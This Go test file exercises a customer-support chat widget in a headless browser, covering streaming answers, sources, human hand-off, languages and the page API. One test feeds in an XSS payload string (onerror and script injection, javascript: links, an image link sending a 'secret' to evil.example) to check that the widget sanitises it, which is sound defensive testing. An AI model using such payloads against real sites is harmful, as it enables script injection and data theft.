package widget

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"frontdesk/conversation"

	"github.com/chromedp/cdproto/input"
	cd "github.com/chromedp/chromedp"
)

// bare is a page of a careful site: scripts by nonce only, no inline style, and
// trusted types.
func bare(attributes string) map[string]string {
	return map[string]string{"/bare": `<!doctype html><html lang="en"><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>Host</title>` +
		`<link rel="icon" href="data:,"><main><h1>Host page</h1></main><script nonce="n0nce" defer src="/widget.js" ` + attributes + `></script></html>`}
}

func TestAskStreamSourcesThumbsPersonAndBack(t *testing.T) {
	p := openPage(t, "/bare", bare(`data-key="site"`))
	step := make(chan struct{})
	p.engine.onMessage = func(id string, m conversation.Message) {
		go func() {
			p.engine.delta(id, "t1", "Within **60")
			<-step
			p.engine.delta(id, "t1", " days** [1]")
			p.engine.say(t, id, conversation.Message{Author: conversation.AuthorBot, Turn: "t1", Text: "Within **60 days** [1].", Sources: sampleSources})
		}()
	}
	p.run(`(one('.launcher').focus(), one('.launcher').click())`)
	p.wait(`one('textarea').matches(':focus')`)
	p.connected()
	p.ask("How long can I return it?")
	p.wait(`one('.draft .bubble')?.textContent.includes('Within')`)
	if spoken := eval[string](p, `one('.spoken').textContent`); spoken != "" {
		t.Errorf("read out while streaming: %q, want nothing", spoken)
	}
	close(step)
	p.wait(`!one('.draft') && one('.bot .bubble strong')?.textContent === '60 days'`)
	p.wait(`one('.spoken').textContent.includes('60 days')`)
	if got := eval[int](p, `all('.bot').length`); got != 2 {
		t.Errorf("%d bubbles of the assistant, want greeting and answer", got)
	}
	if got := eval[string](p, `one('.sources').innerText.replace(/\s+/g, ' ')`); !strings.Contains(got, "1 Returns and refunds › How long you have p. 2") {
		t.Errorf("sources read %q, want title, heading and page", got)
	}
	p.click(".cite")
	p.wait(`one('details').open && one('summary').matches(':focus')`)
	if got := eval[string](p, `one('details a').href`); got != "https://example.com/returns" {
		t.Errorf("source link = %q, want the source's address", got)
	}

	id := p.engine.only(t)
	p.click(".thumb.down")
	p.until("the thumb", func() bool {
		thumb, given := false, false
		_ = p.engine.with(id, func(r *room) error { thumb, given = r.feedback[2]; return nil })
		return given && !thumb
	})
	p.wait(`one('.thumb.down').getAttribute('aria-pressed') === 'true'`)

	p.engine.onMessage = nil
	p.click(".switch")
	p.wait(`one('.answering').textContent.includes('number 2') && one('.switch').textContent === 'Ask the assistant instead'`)
	p.click(".switch")
	p.wait(`one('.answering').textContent.includes('right away')`)
	p.click(".switch")
	p.wait(`one('.answering.waiting')`)
	p.engine.takeOver(t, id, "Ana")
	p.engine.typing(id, "Ana")
	p.wait(`one('.answering').textContent === 'You are talking to Ana' && one('.switch').hidden && one('.typing').textContent === 'Ana is typing…'`)
	p.engine.say(t, id, conversation.Message{Author: conversation.AuthorStaff, Name: "Ana", Text: "Hello, Ana here."})
	p.wait(`one('.staff .bubble')?.textContent === 'Hello, Ana here.' && one('.typing').hidden`)
	p.engine.handBack(t, id)
	p.wait(`one('.answering').textContent.includes('right away')`)

	p.keys("\x1b") // Escape
	p.wait(`one('.panel').hidden && one('.launcher').matches(':focus')`)
	p.engine.say(t, id, conversation.Message{Author: conversation.AuthorStaff, Name: "Ana", Text: "One more thing."})
	p.wait(`one('.badge').textContent === '1' && !one('.badge').hidden && one('.launcher').getAttribute('aria-label').includes('1 unread')`)
	p.run(`Frontdesk.toggle()`)
	p.wait(`one('.badge').hidden`)
	p.wantNoFaults()
	if cookies := eval[string](p, `document.cookie`); cookies != "" {
		t.Errorf("cookies %q, want none", cookies)
	}
}

func TestWidgetLoadsWithOneRequest(t *testing.T) {
	p := openPage(t, "/bare", bare(``))
	p.run(`Frontdesk.close()`)
	p.mu.Lock()
	defer p.mu.Unlock()
	want := []string{"GET " + p.url + "/bare", "GET " + p.url + "/widget.js"}
	if !slices.Equal(p.requests, want) {
		t.Errorf("requests before the chat is used: %v, want %v", p.requests, want)
	}
}

func TestNothingThatWasWrittenBecomesMarkup(t *testing.T) {
	attack := `<img src=x onerror="window.hacked=1"> [a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,x) ![d](https://evil.example/p.png?q=secret) ` +
		"<script>window.hacked=1</script>\n\n[e](//evil.example) [f](vbscript:x) [g](https://ok.example/a\"onclick=\"x) [https://bank.example](https://evil.example)\n\n| <b>h</b> | [i](javascript:x) |\n|---|---|\n| 1 | 2 |"
	p := openPage(t, "/bare", bare(`data-title="<img src=x onerror=hacked=1>" data-greeting="<b>x</b> [x](javascript:hacked=1)"`))
	p.engine.onMessage = func(id string, m conversation.Message) {
		p.engine.delta(id, "t", attack)
		p.engine.say(t, id, conversation.Message{Author: conversation.AuthorBot, Turn: "t", Text: attack + " [1] [2]", Sources: []conversation.Source{
			{N: 1, Title: attack, Heading: attack, URL: "javascript:window.hacked=1", Passage: attack},
			{N: 2, Title: attack, URL: "javascript:window.hacked=1"},
		}})
		p.engine.say(t, id, conversation.Message{Author: conversation.AuthorStaff, Name: attack, Text: attack})
		p.engine.say(t, id, conversation.Message{Author: conversation.AuthorSystem, Text: attack})
		p.engine.takeOver(t, id, attack)
	}
	p.ask(strings.ReplaceAll(attack, "\n", " "))
	p.wait(`one('.staff') && one('.system') && one('.answering').textContent.includes('<script>')`)
	p.run(`one('.cite').click()`)
	if got := eval[[]string](p, `all('img,script,b,iframe,object,style').map((e) => e.outerHTML)`); len(got) > 0 {
		t.Errorf("markup came through: %v", got)
	}
	links := eval[[]string](p, `all('a').map((a) => a.getAttribute('href'))`)
	for _, href := range links {
		if !strings.HasPrefix(href, "https://") {
			t.Errorf("link to %q, want only https ones", href)
		}
	}
	if len(links) == 0 {
		t.Error("no links at all, want the harmless ones")
	}
	if got := eval[int](p, `all('a a').length`); got != 0 {
		t.Errorf("%d links within links, want none", got)
	}
	if got := eval[[]string](p, `all('a').filter((a) => !a.rel.includes('noopener') || a.target !== '_blank').map((a) => a.outerHTML)`); len(got) > 0 {
		t.Errorf("links without rel and target: %v", got)
	}
	if eval[bool](p, `'hacked' in window`) {
		t.Error("the attack ran")
	}
	p.wantNoFaults()
	p.mu.Lock()
	defer p.mu.Unlock()
	for _, r := range p.requests {
		if strings.Contains(r, "evil") {
			t.Errorf("request to the attacker: %s", r)
		}
	}
}

func TestRefusedMessageCanBeEdited(t *testing.T) {
	p := openPage(t, "/bare", bare(``))
	p.run(fmt.Sprintf(`(Frontdesk.open(), Frontdesk.send('x'.repeat(%d)))`, conversation.MaxTextRunes+1))
	p.wait(`one('.note.bad')?.textContent.startsWith('Not sent: it is too long.')`)
	p.run(`Frontdesk.send('short')`) // is not held up
	p.wait(`all('.customer:not(.pending) .bubble')[0]?.textContent === 'short' && all('.pending').length === 1`)
	p.wantAccessible("refused message")
	p.run(`all('.note.bad button').find((b) => b.textContent === 'Edit').click()`)
	p.wait(fmt.Sprintf(`one('textarea').value.length === %d && all('.customer').length === 1`, conversation.MaxTextRunes+1))
}

func TestEnterDuringCompositionDoesNotSend(t *testing.T) {
	p := openPage(t, "/bare", bare(`data-lang="zh"`))
	p.run(`Frontdesk.open()`)
	p.wait(`one('.switch').textContent === '转人工客服'`)
	p.run(`one('textarea').focus()`)
	if _, err := cd.Call(p.ctx, input.ImeSetComposition, input.ImeSetCompositionParams{Text: "tui", SelectionStart: 3, SelectionEnd: 3}); err != nil {
		t.Fatal(err)
	}
	p.run(`one('textarea').dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter', isComposing: true, bubbles: true, cancelable: true}))`)
	p.run(`one('textarea').dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter', keyCode: 229, bubbles: true, cancelable: true}))`)
	if got := eval[int](p, `all('.customer').length`); got != 0 {
		t.Fatalf("%d messages sent while composing, want none", got)
	}
	if _, err := cd.Call(p.ctx, input.InsertText, input.InsertTextParams{Text: "退货"}); err != nil {
		t.Fatal(err)
	}
	p.enter(8) // with shift: a new line
	p.keys("?")
	p.wait(`one('textarea').value === '退货\n?'`)
	p.enter()
	p.wait(`one('.customer .bubble')?.textContent === '退货\n?'`)
}

func TestRightToLeft(t *testing.T) {
	p := preparePage(t, bare(`data-lang="ar" data-accent="#ffd400"`))
	p.phone()
	p.goTo("/bare")
	p.answering("يمكنك إرجاع المنتج خلال **60 يومًا** [1].\n\n- احتفظ بالفاتورة\n- order FH-2041 is fine", conversation.Source{N: 1, Title: "سياسة الإرجاع", Heading: "المدة", Page: 2, Excerpt: "خلال 60 يومًا من الاستلام."})
	p.ask("كم يومًا لدي لإرجاع الخيمة؟")
	p.wait(`one('.sources')`)
	if eval[string](p, `getComputedStyle(one('.panel')).direction`) != "rtl" {
		t.Error("the panel is not right to left")
	}
	if !eval[bool](p, `one('.customer .bubble').getBoundingClientRect().left < one('.bot .bubble').getBoundingClientRect().left`) {
		t.Error("the customer's side is not on the left")
	}
	if got := eval[string](p, `getComputedStyle(one('.send')).backgroundColor + getComputedStyle(one('.customer .bubble')).color`); !strings.HasSuffix(got, "rgb(0, 0, 0)") {
		t.Errorf("colours %s, want black on the yellow accent", got)
	}
	p.wantAccessible("Arabic")
	p.picture("arabic")
	p.wantNoFaults()
}

func TestTextsInChineseAndSpanish(t *testing.T) {
	for lang, want := range map[string]string{"zh-CN": "转人工客服", "es": "Hablar con una persona"} {
		p := preparePage(t, map[string]string{"/bare": strings.Replace(bare(``)["/bare"], "/widget.js", "/widget.js?lang="+lang, 1)})
		p.goTo("/bare")
		p.answering(map[string]string{"zh-CN": "您可以在 **60 天**内退货 [1]。", "es": "Tienes **60 días** para devolverlo [1]."}[lang], conversation.Source{N: 1, Title: "退货 / Devoluciones", Page: 2})
		p.ask(map[string]string{"zh-CN": "退货需要多长时间？", "es": "¿Cuánto tiempo tengo?"}[lang])
		p.wait(`one('.sources')`)
		if got := eval[string](p, `one('.switch').textContent`); got != want {
			t.Errorf("%s: button says %q, want %q", lang, got, want)
		}
		p.picture("lang-" + lang)
		p.mu.Lock()
		for _, r := range p.requests {
			if strings.Contains(r, "/words") {
				t.Errorf("%s: a second request for the words: %s", lang, r)
			}
		}
		p.mu.Unlock()
	}
}

func TestQuestionsOfTheDemoOpenTheChatAndAsk(t *testing.T) {
	p := openPage(t, "/", nil)
	p.answering("Within 60 days.")
	p.do(cd.Click(cd.CSS(`#ask [data-ask]`)))
	p.wait(`!one('.panel').hidden && log().includes('Within 60 days.')`)
	if got := p.engine.texts(t, p.engine.only(t)); !slices.Equal(got, []string{"How long do I have to return something?"}) {
		t.Errorf("asked %q, want the button's question", got)
	}
	p.wantNoFaults()
}

func TestChatWorksOnAnotherOrigin(t *testing.T) {
	p := preparePage(t, nil)
	host := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Content-Security-Policy", "default-src 'none'; script-src 'nonce-n0nce'; img-src data:; connect-src "+p.url+"; require-trusted-types-for 'script'")
		fmt.Fprint(w, strings.Replace(bare(``)["/bare"], `src="`, `src="`+p.url, 1))
	}))
	t.Cleanup(host.Close)
	p.do(cd.Navigate(host.URL))
	p.wait(`!!window.Frontdesk`)
	p.answering("Hello **there**")
	p.ask("Hi")
	p.wait(`one('.bot strong')?.textContent === 'there'`)
	p.click(".switch")
	p.wait(`one('.waiting')`)
	p.wantNoFaults()
}

func TestPageMayUseTheAPI(t *testing.T) {
	p := openPage(t, "/bare", bare(`data-key="shop-1"`))
	p.run(`(window.heard = [], Frontdesk.on('open', () => heard.push('open')), Frontdesk.on('message', (m) => heard.push(m.text)))`)
	p.run(`(Frontdesk.identify({name: 'Bo', email: 'bo@example.com'}), Frontdesk.setContext({page: 'Lark 2'}))`)
	p.ask("hello")
	p.connected()
	id := p.engine.only(t)
	p.engine.say(t, id, conversation.Message{Author: conversation.AuthorBot, Text: "hi"})
	p.wait(`heard.join() === 'open,hi'`)
	p.engine.mu.Lock()
	opening, profile := p.engine.opened[0], p.engine.profiles[id]
	p.engine.mu.Unlock()
	if opening.Account != "shop-1" || opening.Locale != "en" || opening.Channel != Channel {
		t.Errorf("opened as %+v, want the page's key and language", opening)
	}
	if profile.Name != "Bo" || profile.Email != "bo@example.com" || profile.Context["page"] != "Lark 2" {
		t.Errorf("profile %+v, want what the page said", profile)
	}
	p.run(`Frontdesk.reset()`)
	p.wait(`one('.panel').hidden && all('.customer').length === 0 && !Object.keys(localStorage).some((k) => k.endsWith('token'))`)
	p.until("the stream's end", func() bool { return p.widget.streams.open() == 0 })
}
